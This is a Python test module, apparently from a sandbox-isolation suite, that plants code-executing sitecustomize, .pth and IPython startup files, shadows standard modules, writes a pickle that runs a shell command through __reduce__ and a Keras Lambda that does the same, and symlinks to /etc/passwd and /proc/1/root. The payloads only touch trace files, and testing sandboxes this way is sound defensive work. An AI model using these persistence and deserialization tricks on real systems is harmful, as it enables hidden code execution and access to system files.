"""Planting what a later Python may pick up."""
# ruff: noqa: F821, SIM115

from tests.attacks.attack import RIGHT, in_a_cell, tell


@in_a_cell(answers=RIGHT)
def plant_startup_files():
    """Plants IPython's startup file, sitecustomize, usercustomize and a .pth."""
    import os
    import site

    home, planted = os.path.expanduser("~"), 0
    line = f"open({TRACE!r}, 'w'); import os; os.system('touch {SCHOOL}/{TRACE}')\n"
    places = [f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.pythonrc.py"]
    for folder in (site.getusersitepackages(), *site.getsitepackages(), os.getcwd()):
        places += [f"{folder}/{name}" for name in ("sitecustomize.py", "usercustomize.py", "a.pth")]
    for place in places:
        try:
            os.makedirs(os.path.dirname(place), exist_ok=True)
            with open(place, "w") as file:
                file.write(line)
            planted += place.startswith(site.getsitepackages()[0])
        except OSError:
            pass
    tell(f"{planted} in libraries")


@in_a_cell()
def plant_modules():
    """Puts a json.py, a numpy.py and a gankit.py into the working folder and in front of paths."""
    import os
    import sys

    for name in ("json", "numpy", "gankit", "zipfile", "struct", "nbformat"):
        with open(f"{name}.py", "w") as file:
            file.write(f"import os; os.system('touch {SCHOOL}/{TRACE} /tmp/{TRACE}')\n")
    os.makedirs("gankit", exist_ok=True)
    open("gankit/__init__.py", "w").close()
    sys.path.insert(0, os.getcwd())
    os.environ["PYTHONPATH"] = os.getcwd()
    os.environ["PYTHONSTARTUP"] = os.path.abspath("json.py")
    tell(sys.path[0])


@in_a_cell(answers=RIGHT)
def plant_models_and_pickles():
    """Leaves a pickle that runs a program, a .keras with a lambda, and links, where it works."""
    import os
    import pickle

    import keras

    class Bomb:
        def __reduce__(self):
            return os.system, (f"touch {SCHOOL}/{TRACE} {TRACE}-pickle",)

    for name in ("answers.pkl", "model.joblib", "0.npz", "0.npy", "evidence.npz"):
        with open(name, "wb") as file:
            pickle.dump(Bomb(), file)
    layer = keras.layers.Lambda(lambda x: (__import__("os").system("touch trace"), x)[1])
    keras.Sequential([keras.Input((2,)), layer]).save("model.keras")
    for number, target in enumerate(("/etc/passwd", SCHOOL, "/proc/1/root", "/")):
        os.symlink(target, f"link-{number}")
    tell("left")
